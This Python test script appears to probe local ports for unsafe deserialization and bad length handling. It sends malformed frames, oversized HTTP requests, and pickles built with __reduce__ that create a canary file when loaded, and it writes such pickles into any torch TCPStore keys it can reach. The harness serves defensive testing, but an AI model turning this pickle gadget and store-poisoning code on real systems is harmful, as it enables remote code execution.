"""Another account of the host: python -m tests.attacker CANARY PORT ...

Against each port of 127.0.0.1 it speaks what might be spoken there: bytes without sense, lengths
without end, pickles that make the canary file where anybody opens them, HTTP, and, where a store
answers, pickles under every key. It prints what answered.
"""

import os
import pickle
import signal
import socket
import struct
import sys
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from datetime import timedelta
from pathlib import Path

from torch.distributed import TCPStore

PICKLE_KEYS = ("torch.rendezvous.tiny", "/torch.rendezvous.tiny", "rdzv_state", "work/0", "evil")
_WAIT_S = 1.0


class Evil:
    """Makes the canary when it is unpickled."""

    def __init__(self, canary: str) -> None:
        self.canary = canary

    def __reduce__(self):
        return Path.touch, (Path(self.canary),)


def payloads(canary: str) -> dict[str, bytes]:
    """What is sent, by name."""
    evil = pickle.dumps(Evil(canary))
    request = b"/ HTTP/1.1\r\nHost: localhost\r\nContent-Length: 99999999\r\n\r\n"
    return {
        "nothing": b"",
        "zeros": bytes(64),
        "noise": bytes(range(256)) * 64,
        "pickle": evil,
        # Frames of multiprocessing.connection and of gloo, with sizes that are true and untrue.
        "framed pickle": struct.pack("!i", len(evil)) + evil,
        "endless frame": struct.pack("!i", -1) + struct.pack("!Q", 1 << 62) + evil,
        "largest frame": struct.pack("!i", 2**31 - 1) + evil,
        "small numbers": struct.pack("<8Q", *range(8)) + evil,
        "endless number": struct.pack("<4Q", 2**64 - 1, 2**62, 2**40, 1) + evil,
        "GET": b"GET " + request,
        "POST": b"POST " + request + evil,
    }


def send(port: int, payload: bytes) -> bytes:
    """Connect, send, listen for a moment; whatever breaks is an answer too."""
    with suppress(OSError), socket.create_connection(("127.0.0.1", port), _WAIT_S) as end:
        end.settimeout(_WAIT_S)
        end.sendall(payload)
        with suppress(OSError):
            return end.recv(4096)
    return b""


def plant(port: int, canary: str) -> list[str]:
    """Pickles under every key of a store, those that are there and those that a launcher reads."""
    evil = pickle.dumps(Evil(canary))
    planted = []
    with suppress(RuntimeError):
        limit = timedelta(seconds=5)
        store = TCPStore("127.0.0.1", port, is_master=False, timeout=limit, wait_for_workers=False)
        store.set("evil", evil)
        there = store.list_keys() if hasattr(store, "list_keys") else []
        for key in {*PICKLE_KEYS, *there}:
            store.set(key, evil)
            planted.append(key)
    return planted


def main() -> None:
    canary, *ports = sys.argv[1:]
    planters = [_planter(int(port), canary) for port in ports]
    every = [(int(port), *named) for port in ports for named in payloads(canary).items()]
    with ThreadPoolExecutor(32) as beside:
        answers = beside.map(lambda one: send(one[0], one[2]), every)
        for (port, name, _), answer in zip(every, answers, strict=True):
            print(port, name, answer[:60], flush=True)
    for planter in planters:
        os.waitpid(planter, 0)


def _planter(port: int, canary: str) -> int:
    """In a process of its own: a client of torch's can't be told to give up on what is no store."""
    if pid := os.fork():
        return pid
    signal.alarm(10)
    print(port, "planted", plant(port, canary), flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
